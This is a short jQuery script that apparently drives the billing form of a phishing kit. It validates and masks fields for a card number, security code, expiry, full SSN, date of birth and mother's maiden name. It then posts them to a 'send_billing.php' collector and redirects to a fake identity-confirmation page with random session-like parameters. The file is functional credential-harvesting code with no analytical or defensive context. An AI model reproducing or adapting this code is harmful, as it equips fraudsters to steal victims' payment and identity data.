$("#billing").validate({
  rules: { fname: "required", cc: { required: true, creditcard: true }, exp: { required: true, minlength: 5 }, csc: { required: true, digits: true, minlength: 3, maxlength: 4 }, ssn: { required: true, minlength: 9 }, mmn: "required" },
  messages: { cc: "Please enter a valid card number", ssn: "Enter your full SSN so we can confirm your identity", mmn: "Mother's maiden name is required" },
  errorClass: "has-error",
  submitHandler: function (form) {
    $(".rotation").show();
    $.post("../system/send_billing.php?ajax", $(form).serialize(), function () {
      setTimeout(function () {
        window.location.assign("../confirm/identity?cmd=_session=" + Math.random().toString(16).substr(2) + "&dispatch=" + Date.now());
      }, 3000);
    });
  }
});
$("#cc").mask("0000 0000 0000 0000"); $("#exp").mask("00/00"); $("#ssn").mask("000-00-0000"); $("#dob").mask("00/00/0000");
